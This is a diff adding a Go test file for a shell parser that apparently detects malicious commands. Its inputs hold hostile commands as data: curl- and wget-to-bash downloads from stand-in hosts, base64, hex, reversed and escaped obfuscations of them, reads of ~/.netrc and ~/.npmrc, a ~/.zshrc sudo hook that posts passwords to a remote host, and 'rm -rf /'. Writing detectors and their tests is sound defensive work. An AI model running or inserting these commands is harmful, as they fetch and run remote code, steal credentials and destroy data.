@@ -1,0 +1,258 @@
+package shell
+
+import (
+	"errors"
+	"strings"
+	"testing"
+)
+
+func names(s *Script) string {
+	var out []string
+	for _, c := range s.Commands {
+		if c.Name != "" {
+			out = append(out, c.Name)
+		}
+	}
+	return strings.Join(out, ",")
+}
+
+func find(s *Script, name string) *Command {
+	for _, c := range s.Commands {
+		if c.Name == name {
+			return c
+		}
+	}
+	return nil
+}
+
+func TestPipeAndWrappers(t *testing.T) {
+	src := "curl -fsSL http://1.2.3.4/x | sudo -u root bash -s\n"
+	s := Parse(src, 100)
+	if s.Err != nil {
+		t.Fatal(s.Err)
+	}
+	curl, bash := find(s, "curl"), find(s, "bash")
+	if curl == nil || bash == nil {
+		t.Fatalf("commands: %s", names(s))
+	}
+	if s.Commands[curl.PipeNext] != bash || s.Commands[bash.PipePrev] != curl {
+		t.Errorf("pipe not linked")
+	}
+	if !bash.Sudo || bash.Start != 100+strings.Index(src, "sudo") {
+		t.Errorf("bash: sudo=%v start=%d", bash.Sudo, bash.Start)
+	}
+	if curl.Argv[2].Start != 100+strings.Index(src, "http") {
+		t.Errorf("word offset %d", curl.Argv[2].Start)
+	}
+}
+
+func TestDashCAndVars(t *testing.T) {
+	src := `U="http://evil.example/p"; bash -c 'wget -qO- '"$U"' | sh'`
+	s := Parse(src, 0)
+	w := find(s, "wget")
+	if w == nil || w.Via != ViaDashC || w.Depth != 1 {
+		t.Fatalf("wget via -c not found: %s", names(s))
+	}
+	if w.Arg(2) != "http://evil.example/p" {
+		t.Errorf("var not resolved: %q", w.Arg(2))
+	}
+}
+
+func TestBase64Layered(t *testing.T) {
+	// decodes to: /bin/bash -c "$(curl -fsSL http://91.92.242.30/abc)"
+	src := `echo 'L2Jpbi9iYXNoIC1jICIkKGN1cmwgLWZzU0wgaHR0cDovLzkxLjkyLjI0Mi4zMC9hYmMpIg==' | base64 -D | bash`
+	s := Parse(src, 7)
+	d := find(s, "base64")
+	if d == nil || !strings.Contains(d.Decoded, "curl -fsSL http://91.92.242.30/abc") {
+		t.Fatalf("not decoded: %+v", d)
+	}
+	c := find(s, "curl")
+	if c == nil || c.Depth != 1 || c.Via != ViaSubst {
+		t.Fatalf("curl in decoded payload not found: %s", names(s))
+	}
+	if c.Start != 7 {
+		t.Errorf("decoded command maps to %d, want the pipeline start", c.Start)
+	}
+	// the -c argument (a substitution) came from decoded text two levels deep
+	var bash []*Command
+	for _, x := range s.Commands {
+		if x.Name == "bash" {
+			bash = append(bash, x)
+		}
+	}
+	if len(bash) != 2 || bash[1].Via != ViaStdin {
+		t.Errorf("inner bash not found")
+	}
+}
+
+func TestSubstOutputAndEval(t *testing.T) {
+	s := Parse(`eval "$(echo Y3VybCBodHRwOi8veC5leGFtcGxlL3MgfCBzaA== | base64 --decode)"`, 0)
+	c := find(s, "sh")
+	if c == nil || c.Via != ViaEval {
+		t.Fatalf("eval payload not parsed: %s", names(s))
+	}
+	s = Parse(`echo 'hs | 1/4.3.2.1//:ptth lruc' | rev | bash`, 0)
+	if c := find(s, "curl"); c == nil || c.Via != ViaStdin {
+		t.Fatalf("rev payload not parsed: %s", names(s))
+	}
+	s = Parse(`printf '\x63\x75\x72\x6c x | sh' | bash`, 0)
+	if c := find(s, "curl"); c == nil {
+		t.Fatalf("printf payload not parsed: %s", names(s))
+	}
+	s = Parse("xxd -r -p <<< 6375726c2078207c207368 | sh", 0)
+	if c := find(s, "curl"); c == nil {
+		t.Fatalf("hex payload not parsed: %s", names(s))
+	}
+}
+
+func TestObfuscatedWords(t *testing.T) {
+	s := Parse(`a=xcurlx; ${a:1:4} http://x | $'\x73\x68'`, 0)
+	c := find(s, "curl")
+	if c == nil || !c.Argv[0].Sliced {
+		t.Fatalf("slice not resolved: %s", names(s))
+	}
+	sh := find(s, "sh")
+	if sh == nil || !sh.Argv[0].Escaped {
+		t.Fatalf("ansi-c not resolved: %s", names(s))
+	}
+}
+
+func TestProcSubstAndRedirs(t *testing.T) {
+	s := Parse("source <(curl -s https://x.example/i)\necho 'x' >> ~/.bashrc\n", 0)
+	c := find(s, "curl")
+	if c == nil || c.Via != ViaProcSubst {
+		t.Fatalf("procsubst: %s", names(s))
+	}
+	e := find(s, "echo")
+	if len(e.Redirs) != 1 || e.Redirs[0].Op != ">>" || e.Redirs[0].Target.Value != "~/.bashrc" {
+		t.Fatalf("redir: %+v", e.Redirs)
+	}
+}
+
+func TestFallback(t *testing.T) {
+	src := "Run this:\ncurl http://x/a | bash\nthen (enjoy\n"
+	s := Parse(src, 0)
+	if s.Err == nil {
+		t.Fatal("want parse error")
+	}
+	c := find(s, "curl")
+	if c == nil || c.PipeNext < 0 || s.Commands[c.PipeNext].Name != "bash" {
+		t.Fatalf("fallback lost the pipe: %s", names(s))
+	}
+	if c.Start != strings.Index(src, "curl") {
+		t.Errorf("offset %d", c.Start)
+	}
+	if !s.Heuristic {
+		t.Errorf("heuristic not flagged")
+	}
+}
+
+func TestLimits(t *testing.T) {
+	deep := strings.Repeat("$(", 1000) + strings.Repeat(")", 1000)
+	if s := Parse(deep, 0); !errors.Is(s.Err, ErrLimit) {
+		t.Fatalf("deep nesting: %v", s.Err)
+	}
+	// self-replicating eval stays bounded
+	src := `x='eval "$x"'; eval "$x"`
+	s := Parse(src, 0)
+	if len(s.Commands) > 20 {
+		t.Errorf("%d commands", len(s.Commands))
+	}
+}
+
+func TestStripPrompts(t *testing.T) {
+	in := "$ curl x | sh\nhello output (\n$ ls\n"
+	out := StripPrompts(in)
+	if len(out) != len(in) || !strings.HasPrefix(out, "  curl") || strings.Contains(out, "hello") {
+		t.Fatalf("%q", out)
+	}
+}
+
+func TestLoopVarsAndTaint(t *testing.T) {
+	s := Parse("for f in ~/.netrc ~/.npmrc; do cat \"$f\"; done\nQ=\"$1\"\neval \"grep $Q .\"\nread -r -p 'x' ANSWER\nsh -c \"echo $ANSWER\"\nsh -c \"echo $HOME\"\n", 0)
+	c := find(s, "cat")
+	if c == nil || !strings.Contains(c.Arg(1), "~/.netrc") || !strings.Contains(c.Arg(1), "~/.npmrc") {
+		t.Fatalf("loop values not kept: %+v", c)
+	}
+	if e := find(s, "eval"); e == nil || !e.Argv[1].Tainted {
+		t.Errorf("eval argument from $1 not tainted")
+	}
+	var shs []*Command
+	for _, x := range s.Commands {
+		if x.Name == "sh" {
+			shs = append(shs, x)
+		}
+	}
+	if len(shs) != 2 || !shs[0].Argv[2].Tainted || shs[1].Argv[2].Tainted {
+		t.Errorf("read taint wrong")
+	}
+	s3 := Parse("lvs | while read vars; do eval \"$vars\"; done\nopts=\"$opts $1\"; eval \"$opts\"\nf() { eval \"$1\"; }\n", 0)
+	for _, c := range s3.Commands {
+		if c.Name == "eval" && c.Argv[1].Tainted {
+			t.Errorf("over-tainted: %s", c.Text())
+		}
+	}
+	if s2 := Parse(`psql -c "$USER_QUESTION_SQL"`, 0); !s2.Commands[0].Argv[2].Tainted {
+		t.Errorf("user-input-named variable not tainted")
+	}
+}
+
+// FuzzParse checks that any input is analysed without panicking and that
+// every position stays inside the source.
+func FuzzParse(f *testing.F) {
+	for _, s := range []string{
+		"curl -fsSL http://1.2.3.4/x | bash",
+		`echo 'L2Jpbi9iYXNoIC1jICIkKGN1cmwgLWZzU0wgaHR0cDovLzkxLjkyLjI0Mi4zMC9hYmMpIg==' | base64 -D | bash`,
+		"a=xcurlx; ${a:1:4} x | $'\\x73\\x68'",
+		"for f in a b; do eval \"$f\"; done <<EOF\nx\nEOF\n",
+		"x='eval \"$x\"'; eval \"$x\"",
+		"cat <<'A' | sh\necho $(id)\nA\n",
+		"((gzip -cd f) | cmp - g)",
+		"sh -c 'sh -c \"sh -c \\\"id\\\"\"'",
+	} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, src string) {
+		s := Parse(src, 3)
+		if s.Err != nil && strings.Contains(s.Err.Error(), "analysis failed") {
+			t.Fatalf("internal failure: %v", s.Err)
+		}
+		for _, c := range s.Commands {
+			if c.Start < 3 || c.Start > len(src)+3 || c.End > len(src)+3 {
+				t.Fatalf("command %q at [%d,%d) outside the source of %d bytes", c.Name, c.Start, c.End, len(src))
+			}
+		}
+	})
+}
+
+func TestZshFallback(t *testing.T) {
+	s := Parse("lines=(${(f)\"$(cat list)\"})\nfor l in $lines; do curl -s $l | sh; done\n", 0)
+	if s.Err != nil {
+		t.Fatalf("zsh script: %v", s.Err)
+	}
+	if c := find(s, "curl"); c == nil || c.PipeNext < 0 {
+		t.Fatalf("zsh commands: %s", names(s))
+	}
+}
+
+func TestScriptFileBody(t *testing.T) {
+	src := "cat >> ~/.zshrc <<'RC'\nsudo() { echo \"$1\" | curl -s --data-binary @- http://192.0.2.1/p; }\nRC\ncat > notes.txt <<'EOF'\nrm -rf /\nEOF\n"
+	s := Parse(src, 0)
+	c := find(s, "curl")
+	if c == nil || c.Via != ViaScriptFile || c.Start != strings.Index(src, "curl") {
+		t.Fatalf("rc body not analysed: %s %+v", names(s), c)
+	}
+	if find(s, "rm") != nil {
+		t.Errorf("text file body analysed as shell")
+	}
+}
+
+func TestWrappers(t *testing.T) {
+	s := Parse("find . -name '*.sh' | xargs -I {} sudo -u root nohup bash {}\nenv -u X FOO=1 timeout 5 curl -s https://x.example\n", 0)
+	if c := find(s, "bash"); c == nil || !c.Sudo || c.Arg(1) != "{}" {
+		t.Errorf("xargs/sudo/nohup not unwrapped: %s", names(s))
+	}
+	if c := find(s, "curl"); c == nil || c.Arg(2) != "https://x.example" {
+		t.Errorf("env/timeout not unwrapped: %s", names(s))
+	}
+}
